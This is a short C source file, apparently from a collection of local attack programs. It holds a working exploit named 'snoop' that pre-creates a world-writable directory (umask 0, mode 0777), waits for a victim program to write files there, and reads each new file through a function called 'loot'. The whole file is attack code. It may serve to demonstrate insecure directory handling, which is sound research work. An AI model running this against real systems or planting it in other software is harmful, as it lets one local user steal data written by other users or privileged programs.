/* SPDX-License-Identifier: LGPL-2.1-or-later */
/* snoop DIR: owns the directory before the victim does, and reads each file that it writes. */
#include <fcntl.h>
#include <sys/stat.h>

#include "attack.h"

static void loot(const char *path)
{
	char text[4096];
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return;
	for (ssize_t n = read(fd, text, sizeof text); n > 0;
	     n = read(fd, text, sizeof text))
		fwrite(text, 1, (size_t)n, stdout);
	close(fd);
}

int main(int argc, char **argv)
{
	int fd = watcher();
	const struct inotify_event *event;

	if (argc != 2)
		return 2;
	umask(0);
	if (mkdir(argv[1], 0777) != 0)
		die(argv[1]);
	watch(fd, argv[1], IN_CLOSE_WRITE);
	lie_in_wait();
	while ((event = next_event(fd)) != NULL) {
		char name[PATH_MAX];

		snprintf(name, sizeof name, "%s/%s", argv[1], event->name);
		loot(name);
	}
	return 0;
}
